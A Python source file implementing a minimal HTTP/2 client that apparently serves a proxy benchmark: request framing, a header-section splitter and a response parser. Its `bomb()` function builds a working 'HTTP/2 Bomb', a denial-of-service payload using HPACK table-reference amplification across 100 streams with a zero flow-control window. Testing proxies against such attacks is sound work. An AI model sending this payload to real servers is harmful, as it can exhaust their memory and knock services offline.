# SPDX-License-Identifier: Apache-2.0
"""
Just enough HTTP/2 to ask a proxy that speaks nothing else: one GET on stream 1.

Fields are sent as literals, without Huffman coding; of the answer's fields only the
status is read, which every proxy writes from HPACK's static table.
"""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
CONTINUATION = 9
FRAME_MAX = 16384
BOMB_STREAMS = 100
ACK = END_STREAM = 1
END_HEADERS = 4
INITIAL_WINDOW_SIZE = 4
STATUSES = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name_index, value):
    """A field without indexing whose name is in the static table; both below 15 and 127."""
    return bytes([name_index, len(value)]) + value


def request(path, tls, window=None):
    """All that a client says until it waits; 'window' for each stream, else 65,535."""
    scheme = 0x87 if tls else 0x86
    head = bytes([0x82, scheme]) + _literal(1, b"bench") + _literal(4, path)
    settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window) if window else b""
    return (PREFACE + frame(SETTINGS, 0, 0, settings)
            + frame(HEADERS, END_STREAM | END_HEADERS, 1, head))


def _section(stream, block):
    """A whole request's fields, in as many frames as they need."""
    parts = [block[at:at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
    frames = [frame(CONTINUATION if i else HEADERS,
                    (0 if i else END_STREAM) | (END_HEADERS if i == len(parts) - 1 else 0),
                    stream, part) for i, part in enumerate(parts)]
    return b"".join(frames)


def bomb(path, n_fields):
    """
    The "HTTP/2 Bomb": a field put into the table once, then a byte for each time that it is
    said again, on every stream; and no window for the replies, so that nothing ends.
    """
    head = bytes([0x82, 0x86]) + _literal(1, b"bench") + _literal(4, path)
    entry = b"\x40" + bytes([1]) + b"x" + bytes([1]) + b"y"
    again = b"\xbe" * n_fields  # Entry 62: the first of the table.
    no_window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    return PREFACE + frame(SETTINGS, 0, 0, no_window) + b"".join(
        _section(1 + 2 * i, head + (b"" if i else entry) + again) for i in range(BOMB_STREAMS))


class Answer:
    """What a proxy says on one connection; feed() returns what has to be said in return."""

    def __init__(self):
        self.buffer = b""
        self.status = None
        self.n_body = 0
        self.is_whole = False

    def feed(self, data):
        self.buffer += data
        replies = b""
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            replies += self._take(kind, flags, payload)
        return replies

    def _take(self, kind, flags, payload):
        if kind == SETTINGS and not flags & ACK:
            return frame(SETTINGS, ACK, 0)
        if kind == PING and not flags & ACK:
            return frame(PING, ACK, 0, payload)
        if kind == HEADERS and self.status is None:
            self.status = self._status(payload)
        if kind == DATA:
            self.n_body += len(payload)
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            self.is_whole = True
        return b""

    @staticmethod
    def _status(block):
        """After updates of the table's size, the first field is the status."""
        at = 0
        while at < len(block) and block[at] & 0xe0 == 0x20:
            at += 1 if block[at] & 0x1f != 0x1f else 2 + (block[at + 1] >> 7)
        return STATUSES.get(block[at]) if at < len(block) else None
